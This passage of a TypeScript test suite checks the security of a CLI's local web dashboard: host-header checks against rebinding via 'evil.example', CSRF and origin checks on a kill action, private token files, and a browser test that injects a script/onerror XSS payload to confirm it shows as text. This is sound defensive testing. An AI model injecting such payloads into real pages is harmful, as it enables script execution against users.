    await startOk(['start', 'ralph', 'target', '30', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
    const readOnly = await serve({ root, allowHosts: ['devbox.tailnet.example'] })
    let acting: WebServer | null = null
    try {
      const { port } = readOnly
      const { cookie, csrf } = await logIn(readOnly)
      const hosts: [string, number][] = [
        ['evil.example', 403],
        [`evil.example:${port}`, 403],
        [`127.0.0.1.evil.example:${port}`, 403],
        ['localhost:1', 200],
        [`LocalHost:${port}`, 200],
        [`[::1]:${port}`, 200],
        ['127.0.0.1', 200],
        ['devbox.tailnet.example', 200],
        ['DEVBOX.tailnet.example:443', 200],
        ['tailnet.example', 403],
      ]
      for (const [host, code] of hosts) expect((await http(port, '/api/fleet', { headers: { cookie, host } })).status, host).toBe(code)
      // Not even the token is taken by a wrong name.
      const token = new URL(readOnly.url).search
      const rebound = await http(port, `/${token}`, { headers: { host: `evil.example:${port}` } })
      expect([rebound.status, rebound.headers['set-cookie']]).toEqual([403, undefined])
      // Read-only: no such route, whatever the request carries.
      const post = (server: WebServer, what: string, headers: Record<string, string>) =>
        http(server.port, `/api/${what}?name=target`, { method: 'POST', headers })
      const same = { cookie, 'x-sessions-csrf': csrf, origin: `http://127.0.0.1:${port}`, host: `127.0.0.1:${port}` }
      expect((await post(readOnly, 'kill', same)).status).toBe(404)
      expect(readOnly.url).not.toContain('actions')
      expect((await http(port, '/', { headers: { cookie } })).body).toContain('data-actions="no"')
      acting = await serve({ root, allowActions: true })
      const with2 = await logIn(acting)
      // Two servers, two cookies: one never logs the other out, and one's cookie (which the browser sends
      // to every port) is no key to the other; a read-only view and one with actions have other tokens.
      expect(with2.cookie.split('=')[0]).toBe(`sessions_${acting.port}`)
      expect(with2.cookie.split('=')[0]).not.toBe(cookie.split('=')[0])
      expect(new URL(acting.url).search).not.toBe(new URL(readOnly.url).search)
      const renamed = `sessions_${acting.port}=${cookie.split('=')[1]}`
      expect((await http(acting.port, '/api/fleet', { headers: { cookie: renamed } })).status).toBe(401)
      const here = { cookie: with2.cookie, host: `127.0.0.1:${acting.port}` }
      const refused = [
        { ...here, origin: 'http://evil.example', 'x-sessions-csrf': with2.csrf },
        { ...here, origin: `http://127.0.0.1:${acting.port}` },
        { ...here, origin: `http://127.0.0.1:${acting.port}`, 'x-sessions-csrf': csrf.replace(/^./, (c) => (c === 'A' ? 'B' : 'A')) },
        { ...here, 'x-sessions-csrf': with2.csrf },
      ]
      for (const headers of refused) expect((await post(acting, 'kill', headers)).status, JSON.stringify(headers)).toBe(403)
      expect(rowOf((await listJson(root)).sessions, 'target').health).toBe('running')
      const killed = await post(acting, 'kill', { ...here, origin: `http://127.0.0.1:${acting.port}`, 'x-sessions-csrf': with2.csrf })
      expect(killed.status).toBe(200)
      expect(JSON.parse(killed.body)).toMatchObject({ ok: true, result: [{ name: 'target' }] })
      expect(rowOf((await listJson(root)).sessions, 'target').health).toBe('killed')
    } finally {
      await readOnly.close()
      await acting?.close()
    }
  })

  test('a restart keeps the URL (its token kept 0600); a token file others can read is not trusted', async () => {
    const root = await makeProject('crashed-loop')
    const first = await serve({ root })
    const { cookie } = await logIn(first)
    await first.close()
    const file = first.token_file!
    expect(path.dirname(file)).toBe(path.join(process.env.XDG_STATE_HOME!, 'sessions-ts', 'serve'))
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const again = await serve({ root })
    try {
      expect(again.url).toBe(first.url)
      // A page still open logged in before the restart goes on.
      expect((await http(again.port, '/api/fleet', { headers: { cookie } })).status).toBe(200)
    } finally {
      await again.close()
    }
    // Its port taken meanwhile: another one, said.
    const blocker = createServer()
    await new Promise<void>((resolve) => blocker.listen(first.port, '127.0.0.1', resolve))
    const moved = await serve({ root })
    await moved.close()
    await new Promise((resolve) => blocker.close(resolve))
    expect(moved.port).not.toBe(first.port)
    expect(moved.port_taken).toBe(first.port)
    expect(new URL(moved.url).search).toBe(new URL(first.url).search)
    chmodSync(file, 0o644)
    const distrusted = await serve({ root })
    try {
      expect(distrusted.url).not.toBe(first.url)
      expect((await http(distrusted.port, '/api/fleet', { headers: { cookie } })).status).toBe(401)
      expect(statSync(file).mode & 0o777).toBe(0o600)
    } finally {
      await distrusted.close()
    }
    // Another project, another token.
    const elsewhere = await serve({ root: await makeProject('complete-loop') })
    await elsewhere.close()
    expect(new URL(elsewhere.url).search).not.toBe(new URL(distrusted.url).search)
  })

  test('the serve command: one URL on its line, 80 columns, bad flags exit 2 with nothing written', async () => {
    const root = await makeProject('crashed-loop')
    const state = path.join(BASE, `state-${++projects}`)
    for (const [args, message] of [
      [['--port', '0'], /--port needs a port from 1 to 65535, got "0"/],
      [['--port', '65536'], /--port needs a port from 1 to 65535/],
      [['--allow-host', 'evil.example/x'], /--allow-host needs a host name/],
      [['--allow-host=-x'], /--allow-host needs a host name/],
      [['--json'], /serve serves a web page until stopped; it takes no --json/],
    ] as [string[], RegExp][]) {
      const run = await cli(['serve', ...args, '-C', root], { env: { XDG_STATE_HOME: state } })
      expect([run.code, run.stdout]).toEqual([2, ''])
      expect(run.stderr).toMatch(message)
    }
    expect(existsSync(state)).toBe(false)
    // --open runs the system's opener with the URL (here a stand-in on the PATH that records it).
    const bin = path.join(BASE, `opener-${projects}`)
    mkdirSync(bin)
    writeFileSync(path.join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$*" > '${bin}/opened'\n`, { mode: 0o755 })
    const stop = new AbortController()
    const said: string[] = []
    const running = main(['serve', '--open', '-C', root], {
      stdout: (text) => said.push(text),
      stderr: (text) => said.push(text),
      env: { ...ENV, XDG_STATE_HOME: state, PATH: `${bin}:${ENV.PATH}` },
      cwd: root,
      terminal: false,
      stderrTerminal: false,
      columns: 80,
      signal: stop.signal,
    })
    const text: string = await waitFor('its URL', () => (said.join('').includes('?token=') ? said.join('') : null))
    const lines = text.trimEnd().split('\n')
    const url = lines.find((line) => line.startsWith('  http://'))!.trim()
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?token=[A-Za-z0-9_-]{32}$/)
    for (const line of lines) expect(line.length, line).toBeLessThanOrEqual(80)
    expect(text).toContain('read-only')
    // It is given a page of the user's own, never the URL: a command line is every user's to read.
    const record = path.join(bin, 'opened')
    const opened: string = (await waitFor('the opener run', () => (existsSync(record) ? readFileSync(record, 'utf8') : null))).trim()
    expect(opened).toMatch(new RegExp(`^${state}/sessions-ts/serve/[0-9a-f]{16}-open\\.html$`))
    expect(statSync(opened).mode & 0o777).toBe(0o600)
    expect(readFileSync(opened, 'utf8')).toContain(`url=${url}"`)
    stop.abort()
    expect(await running).toBe(0)
    // Stopped: nothing listens there.
    await expect(http(Number(new URL(url).port), '/')).rejects.toThrow(/ECONNREFUSED/)
  })

  test.skipIf(!CHROMIUM)(
    'in a real browser: the fleet with its healths, live after a real kill and a real crash, a timeline, text never markup, 360 px wide',
    { timeout: 120_000 },
    async () => {
      const { chromium } = await import('playwright-core')
      const root = await makeEngineProject()
      const hostile = `<script>window.pwned=1</script>"><img src=x onerror="window.pwned=2">`
      await startOk(['start', 'ralph', 'alpha', '30', '--yes', '-C', root], { env: { MOCK_PACE: '4', MOCK_SUMMARY: hostile } })
      await startOk(['start', 'ralph', 'beta', '30', '--yes', '-C', root], { env: { MOCK_PACE: '0.7' } })
      await startOk(['start', 'ralph', 'gamma', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.3' } })
      await waitFor(
        'gamma complete, alpha one iteration on and beta two',
        async () => {
          const rows = (await listJson(root)).sessions
          const done = (name: string) => rowOf(rows, name).iteration_completed ?? 0
          return rowOf(rows, 'gamma').health === 'complete' && done('alpha') >= 1 && done('beta') >= 2
        },
        30_000,
      )
      let server = await serve({ root, intervalMs: 1000 })
      const browser = await chromium.launch({
        executablePath: CHROMIUM,
        // No sandbox (CI runs as root); no background traffic to hosts this machine cannot reach.
        args: [
          '--no-sandbox',
          '--disable-gpu',
          '--disable-quic',
          '--no-first-run',
          '--disable-background-networking',
          '--disable-component-update',
          '--disable-sync',
        ],
      })
      try {
        mkdirSync(SHOTS, { recursive: true })
        const page = await browser.newPage({ viewport: { width: 360, height: 740 }, colorScheme: 'dark' })
        const problems: string[] = []
        page.on('console', (message) => {
          if (message.type() === 'error') problems.push(message.text())
        })
        page.on('pageerror', (error) => problems.push(String(error)))
        page.on('request', (request) => {
          if (!request.url().startsWith(`http://127.0.0.1:${server.port}/`)) problems.push(`a request elsewhere: ${request.url()}`)
        })
        await page.goto(server.url)
        // Sent on by the token's page, without the token.
        await page.waitForURL(`http://127.0.0.1:${server.port}/`)
        const health = (name: string) => page.locator('.card', { hasText: name }).locator('.badge')
        await expectText(() => health('alpha').textContent(), 'running')
        await expectText(() => health('beta').textContent(), 'running')
        await expectText(() => health('gamma').textContent(), 'complete')
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
        await page.screenshot({ path: path.join(SHOTS, 'fleet-phone.png'), fullPage: true })
        // A real kill, and a real crash (the engine and its node SIGKILLed): the page says so at its next look.
        expect((await cli(['kill', 'alpha', '-C', root])).code).toBe(0)
        const engine = readJson(path.join(root, '.claude/locks/beta.lock')).pid
        for (const pid of [engine, ...(await processDescendants(engine))]) process.kill(pid, 'SIGKILL')
        await expectText(() => health('alpha').textContent(), 'killed')
        await expectText(() => health('beta').textContent(), 'crashed')
        // The server restarted: the open page reconnects by itself (same port, same cookie) and goes on.
        await server.close()
        await expectText(() => page.locator('#live').textContent(), 'reconnecting')
        server = await serve({ root, intervalMs: 1000 })
        expect(page.url()).toBe(`http://127.0.0.1:${server.port}/`)
        await startOk(['start', 'ralph', 'delta', '30', '--yes', '-C', root], { env: { MOCK_PACE: '5' } })
        await expectText(() => health('delta').textContent(), 'running', 15_000)
        expect((await cli(['kill', 'delta', '-C', root])).code).toBe(0)
        // beta's page, by keyboard: its evidence, a timeline bar per iteration, charts, the output.
        await page.locator('a.card', { hasText: 'beta' }).focus()
        await page.keyboard.press('Enter')
        await page.waitForURL(/\/session\?/)
        await page.locator('svg[aria-label="iterations along time"] rect').first().waitFor()
        const done = rowOf((await listJson(root)).sessions, 'beta').iteration_completed!
        expect(await page.locator('svg[aria-label="iterations along time"] rect').count()).toBe(done)
        expect(await page.locator('ul.evidence li').count()).toBeGreaterThan(0)
        expect(await page.locator('pre').textContent()).toContain('Mock iteration 1 completed')
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
        await page.screenshot({ path: path.join(SHOTS, 'session-phone.png'), fullPage: true })
        // alpha's agents' summary, in its iterations and its output: shown as text, never as markup.
        await page.goto(`http://127.0.0.1:${server.port}/session?name=alpha`)
        await expectText(() => page.locator('ul.feed').first().textContent(), hostile)
        expect(await page.locator('pre').textContent()).toContain(hostile)
        expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined()
        expect(await page.locator('main img, main script').count()).toBe(0)
        await page.setViewportSize({ width: 1280, height: 900 })
        await page.goto(`http://127.0.0.1:${server.port}/`)
        await page.locator('.card').first().waitFor()
        await page.screenshot({ path: path.join(SHOTS, 'fleet-desktop.png'), fullPage: true })
        expect(problems).toEqual([])
        await browser.close()
        // No page open: no look is made (two and a half intervals without one).
        await waitFor('the page gone', () => server.pages() === 0)
        const looks = server.looks()
        await new Promise((resolve) => setTimeout(resolve, 2500))
        expect(server.looks()).toBe(looks)
      } finally {
        await browser.close()
        await server.close()
      }
    },
  )

  /** Waits until a text read from the page contains what is expected (the page redraws at each look). */
  async function expectText(read: () => Promise<string | null>, expected: string, timeoutMs = 10_000) {
    await waitFor(`"${expected}" on the page`, async () => (await read())?.includes(expected), timeoutMs)
  }
})

describe('the suite itself', () => {
  // Last in the file, so last to run, in every part: what every test before it started must be gone by now.
  vitestTest('leaves no process of its own behind', async () => {
    killServer()
    endChildren()
    // A pane's process ends moments after its server; give what is ending a few seconds.
    const gone = await waitFor('the suite’s processes to end', () => processesOfThisSuite().length === 0, 5_000).catch(() => false)
    const left = gone ? [] : processesOfThisSuite()
    for (const { pid } of left)
      try {
        process.kill(pid, 'SIGKILL')
      } catch {
        /* gone */
      }
    expect(left, `still running: ${left.map(({ command }) => command).join(' | ')}`).toEqual([])
    // And none was left by a test on its way, to be ended after it.
    expect(leaks, `left by tests: ${leaks.join(' | ')}`).toEqual([])
  })
})
